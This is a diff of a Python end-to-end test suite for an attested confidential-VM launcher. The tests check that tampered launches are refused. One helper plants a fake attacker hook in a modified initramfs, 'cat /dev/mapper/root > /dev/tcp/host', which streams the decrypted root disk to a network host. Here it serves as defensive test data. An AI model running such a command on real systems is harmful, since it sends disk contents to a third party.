@@ -1,6 +1,6 @@
 """End to end on the real libvirtd: the smoke image launched emulated (TCG), attested,
 unlocked, logged in to over SSH with the attested host key, destroyed — and launches
-that must be refused with nothing unlocked."""
+that must be refused with nothing unlocked, two at a time (fixture ``refused``)."""
 
 from __future__ import annotations
 
@@ -12,6 +12,8 @@ import re
 import secrets
 import shutil
 import subprocess
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass
 from pathlib import Path
 
 import libvirt
@@ -84,13 +86,6 @@ def _launch(conn, spec, trust, store, events=None):
             if events is not None:
                 events.clear()
     raise AssertionError("unreachable")
-
-
-def _never_unlocked(conn, name):
-    tail = serial_log_tail(conn, name, lines=400)
-    assert "tdxvm-unlock: listening" in tail  # it booted to the unlock step and waited
-    assert "received secret" not in tail and "set up successfully" not in tail
-    assert not conn.lookupByName(name).isActive()  # stopped
 
 
 class _HostSealsFirst(list):
@@ -192,22 +187,23 @@ def test_launch_attest_unlock_ssh_reattest_destroy(conn, trust, smoke_build, vm_
         conn.lookupByName(vm_name)
 
 
-def test_policy_with_wrong_mrtd_is_refused(conn, trust, smoke_build, vm_name):
-    store = SecretStore(directory=smoke_build.secrets)
-    with pytest.raises(handshake.AttestationRefused) as refused:
-        _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json", mrtd="ab" * 48), trust, store)
-    assert [r.code for r in refused.value.reasons] == ["measurement-mismatch"]
-    assert "quote field MR_TD is" in refused.value.reasons[0].message
-    _never_unlocked(conn, vm_name)
+@dataclass
+class Refusal:
+    """What one launch that must be refused ended with."""
+
+    name: str
+    error: BaseException | None
+    events: list
+    tail: str  # the serial console's last 400 lines
+    active: bool
 
 
-def test_initramfs_modified_after_the_build_is_refused(conn, trust, smoke_build, vm_name, tmp_path):
-    """The host swaps the initramfs (here: one more file appended, as an attacker's hook
-    would be); the manifest's artifact hash is fixed up, its measurements are not: the
-    quote's RTMR2 (what the emulated TD measured) no longer matches."""
-    folder = tmp_path / "tampered"
-    shutil.copytree(smoke_build.folder, folder)
-    extra = tmp_path / "extra"
+def _initramfs_modified(build, work: Path) -> Path:
+    """A copy of the build whose initramfs has one more file appended, as an attacker's hook
+    would be; the manifest's artifact hash is fixed up, its measurements are not."""
+    folder = work / "tampered"
+    shutil.copytree(build.folder, folder)
+    extra = work / "extra"
     (extra / "scripts").mkdir(parents=True)
     (extra / "scripts/evil").write_text("#!/bin/sh\ncat /dev/mapper/root > /dev/tcp/host\n")
     cpio = subprocess.run(
@@ -219,13 +215,16 @@ def test_initramfs_modified_after_the_build_is_refused(conn, trust, smoke_build,
     data = (folder / "initrd.img").read_bytes()
     manifest["artifacts"]["initrd.img"] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
     (folder / "manifest.json").write_text(json.dumps(manifest))
-    store = SecretStore(directory=smoke_build.secrets)
-    with pytest.raises(handshake.AttestationRefused) as refused:
-        _launch(conn, _spec(vm_name, folder / "manifest.json"), trust, store)
-    assert [(r.code, r.message.split(" is ")[0]) for r in refused.value.reasons] == [
-        ("measurement-mismatch", "quote field RTMR2")
-    ]
-    _never_unlocked(conn, vm_name)
+    return folder / "manifest.json"
+
+
+def _forged_trust(trust, work: Path) -> EmulatedTrust:
+    """The host's own quote service: another root signs."""
+    forger = EmulatedPlatform()
+    forger.save(work / "forger")
+    forged = EmulatedTrust(forger, work / "forger", trust.collateral, trust.trust_anchor)
+    assert TrustAnchor.from_der(forger.root_ca_der) != trust.trust_anchor
+    return forged
 
 
 class _HostAddsAVcpu(list):
@@ -244,36 +243,6 @@ class _HostAddsAVcpu(list):
             changed = re.sub(r"<vcpu([^>]*)>(\d+)</vcpu>", lambda m: f"<vcpu{m[1]}>{int(m[2]) + 1}</vcpu>", xml)
             assert changed != xml
             self.conn.defineXML(changed)
-
-
-def test_a_machine_the_host_changed_after_definition_is_refused(conn, trust, smoke_build, vm_name):
-    """RTMR0 is pinned from the XML the controller wrote; the emulated TD's RTMR0 comes
-    from the QEMU libvirt actually runs. The host's extra vCPU changes the ACPI tables,
-    so the first quote no longer matches: refused before anything is released. (Memory
-    changes the TD HOB, a device the tables; tests/launch/test_rtmr0pin.py shows each.)"""
-    store = SecretStore(directory=smoke_build.secrets)
-    events = _HostAddsAVcpu(conn, vm_name)
-    with pytest.raises(handshake.AttestationRefused) as refused:
-        _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json"), trust, store, events)
-    assert "RTMR0 pinned" in [e.detail for e in events if e.phase == "define" and e.status == "done"][0]
-    assert [(r.code, r.message.split(" is ")[0]) for r in refused.value.reasons] == [
-        ("measurement-mismatch", "quote field RTMR0")
-    ]
-    _never_unlocked(conn, vm_name)
-
-
-def test_quote_from_another_signer_is_refused(conn, trust, smoke_build, vm_name, tmp_path):
-    """The host runs its own quote service (another root): a forged quote."""
-    forger = EmulatedPlatform()
-    forger.save(tmp_path / "forger")
-    forged = EmulatedTrust(forger, tmp_path / "forger", trust.collateral, trust.trust_anchor)
-    assert TrustAnchor.from_der(forger.root_ca_der) != trust.trust_anchor
-    store = SecretStore(directory=smoke_build.secrets)
-    with pytest.raises(handshake.AttestationRefused) as refused:
-        _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json"), forged, store)
-    codes = {r.code for r in refused.value.reasons}
-    assert codes & {"untrusted-root", "pck-chain"}, refused.value.reasons
-    _never_unlocked(conn, vm_name)
 
 
 def _tampered(build, folder: Path, disk) -> Path:
@@ -324,8 +293,107 @@ def _host_built(build, work: Path, *, forged: bool):
     return disk
 
 
-@pytest.mark.parametrize("attack", ["flipped-byte", "host-built-rootfs", "forged-cipher-null-header"])
-def test_a_disk_that_is_not_the_built_one_is_refused_in_the_td(conn, trust, smoke_build, vm_name, tmp_path, attack):
+DISK_ATTACKS = ("flipped-byte", "host-built-rootfs", "forged-cipher-null-header")
+PARALLEL = 2  # refused launches at once: one vCPU each, on this project's 2-core machines
+
+
+@pytest.fixture(scope="module")
+def refused(conn, trust, smoke_build, tmp_path_factory):
+    """Every launch that must be refused, launched two at a time (each boots only to the
+    unlock step, or to the root's first block for the disk attacks), at the first test
+    that asks; each test then checks its own. Their VMs are removed at the end."""
+    store = SecretStore(directory=smoke_build.secrets)
+    genuine = smoke_build.folder / "manifest.json"
+
+    keys = ("wrong-mrtd", "initramfs-modified", "machine-changed", "another-signer", *DISK_ATTACKS)
+    works = {key: tmp_path_factory.mktemp(key) for key in keys}
+
+    def case(key: str) -> Refusal:
+        name = f"e2e-{key[:12]}-{secrets.token_hex(3)}"
+        work = works[key]
+        events: list = []
+        kind, spec, signer = key, _spec(name, genuine), trust
+        if kind == "wrong-mrtd":
+            spec = _spec(name, genuine, mrtd="ab" * 48)
+        elif kind == "initramfs-modified":
+            spec = _spec(name, _initramfs_modified(smoke_build, work))
+        elif kind == "machine-changed":
+            events = _HostAddsAVcpu(conn, name)
+        elif kind == "another-signer":
+            signer = _forged_trust(trust, work)
+        else:
+            disk = {
+                "flipped-byte": _flip_a_byte(smoke_build),
+                "host-built-rootfs": _host_built(smoke_build, work, forged=False),
+                "forged-cipher-null-header": _host_built(smoke_build, work, forged=True),
+            }[kind]
+            spec = _spec(name, _tampered(smoke_build, work / "tampered", disk))
+        error: BaseException | None = None
+        try:
+            _launch(conn, spec, signer, store, events)
+        except Exception as exc:  # noqa: BLE001 - each test checks its own case's error
+            error = exc
+        try:
+            tail, active = serial_log_tail(conn, name, lines=400), bool(conn.lookupByName(name).isActive())
+        except (LaunchError, libvirt.libvirtError):
+            tail, active = "", False
+        return Refusal(name, error, events, tail, active)
+
+    with ThreadPoolExecutor(max_workers=PARALLEL, thread_name_prefix="e2e-refused") as pool:
+        results = dict(zip(keys, pool.map(case, keys), strict=True))
+    yield results
+    for r in results.values():
+        with contextlib.suppress(LaunchError):
+            destroy(conn, r.name)
+
+
+def _refused_at_attestation(r: Refusal) -> handshake.AttestationRefused:
+    """The case's refusal, after checking its TD booted to the unlock step, waited, got nothing, and was stopped."""
+    if not isinstance(r.error, handshake.AttestationRefused):
+        raise AssertionError(f"{r.name} was not refused at attestation: {r.error!r}") from r.error
+    assert "tdxvm-unlock: listening" in r.tail  # it booted to the unlock step and waited
+    assert "received secret" not in r.tail and "set up successfully" not in r.tail
+    assert not r.active  # stopped
+    return r.error
+
+
+def test_policy_with_wrong_mrtd_is_refused(refused):
+    error = _refused_at_attestation(refused["wrong-mrtd"])
+    assert [r.code for r in error.reasons] == ["measurement-mismatch"]
+    assert "quote field MR_TD is" in error.reasons[0].message
+
+
+def test_initramfs_modified_after_the_build_is_refused(refused):
+    """The host swaps the initramfs (one more file appended, as an attacker's hook would
+    be); the manifest's artifact hash is fixed up, its measurements are not: the quote's
+    RTMR2 (what the emulated TD measured) no longer matches."""
+    error = _refused_at_attestation(refused["initramfs-modified"])
+    assert [(r.code, r.message.split(" is ")[0]) for r in error.reasons] == [
+        ("measurement-mismatch", "quote field RTMR2")
+    ]
+
+
+def test_a_machine_the_host_changed_after_definition_is_refused(refused):
+    """RTMR0 is pinned from the XML the controller wrote; the emulated TD's RTMR0 comes
+    from the QEMU libvirt actually runs. The host's extra vCPU changes the ACPI tables,
+    so the first quote no longer matches: refused before anything is released. (Memory
+    changes the TD HOB, a device the tables; tests/launch/test_rtmr0pin.py shows each.)"""
+    case = refused["machine-changed"]
+    error = _refused_at_attestation(case)
+    assert "RTMR0 pinned" in [e.detail for e in case.events if e.phase == "define" and e.status == "done"][0]
+    assert [(r.code, r.message.split(" is ")[0]) for r in error.reasons] == [
+        ("measurement-mismatch", "quote field RTMR0")
+    ]
+
+
+def test_quote_from_another_signer_is_refused(refused):
+    """The host runs its own quote service (another root): a forged quote."""
+    error = _refused_at_attestation(refused["another-signer"])
+    assert {r.code for r in error.reasons} & {"untrusted-root", "pck-chain"}, error.reasons
+
+
+@pytest.mark.parametrize("attack", DISK_ATTACKS)
+def test_a_disk_that_is_not_the_built_one_is_refused_in_the_td(refused, smoke_build, attack):
     """The host serves another disk under the genuine kernel, initramfs and command line:
     a byte of the payload flipped; a root filesystem of its own under its own key; or its
     plaintext root behind a LUKS2 header forged with cipher_null (any passphrase opens it).
@@ -333,24 +401,16 @@ def test_a_disk_that_is_not_the_built_one_is_refused_in_the_td(conn, trust, smok
     released key (never the header), and the first block fails verity against the
     measured root hash: it powers off before any system exists, with a message on the
     console; nothing of the host's root ever runs."""
-    disk = {
-        "flipped-byte": _flip_a_byte(smoke_build),
-        "host-built-rootfs": _host_built(smoke_build, tmp_path, forged=False),
-        "forged-cipher-null-header": _host_built(smoke_build, tmp_path, forged=True),
-    }[attack]
-    manifest = _tampered(smoke_build, tmp_path / "tampered", disk)
-    store = SecretStore(directory=smoke_build.secrets)
-    events: list = []
-    with pytest.raises(bringup.BringUpError) as failed:
-        _launch(conn, _spec(vm_name, manifest), trust, store, events)
-    assert failed.value.phase == "ready" and "the VM stopped" in str(failed.value)
-    assert [e.phase for e in events if e.status == "done"] == ["define", "boot", "quote", "verify", "unlock"]
-    tail = serial_log_tail(conn, vm_name, lines=400)
+    case = refused[attack]
+    if not isinstance(case.error, bringup.BringUpError):
+        raise AssertionError(f"{case.name} did not fail to come up: {case.error!r}") from case.error
+    assert case.error.phase == "ready" and "the VM stopped" in str(case.error)
+    assert [e.phase for e in case.events if e.status == "done"] == ["define", "boot", "quote", "verify", "unlock"]
     root_hash = smoke_build.manifest["verity"]["root_hash"]
     assert (
         "tdxvm-rootdisk: refusing the root filesystem: the disk is not the root filesystem the measured command "
         f"line names (its first block does not verify against root hash {root_hash}"
-    ) in tail
-    assert "tdxvm: the root filesystem was not opened; powering off" in tail
-    assert hostdisks.MOTD.decode().strip() not in tail and "Welcome to" not in tail  # no system booted
-    assert not conn.lookupByName(vm_name).isActive()
+    ) in case.tail
+    assert "tdxvm: the root filesystem was not opened; powering off" in case.tail
+    assert hostdisks.MOTD.decode().strip() not in case.tail and "Welcome to" not in case.tail  # no system booted
+    assert not case.active
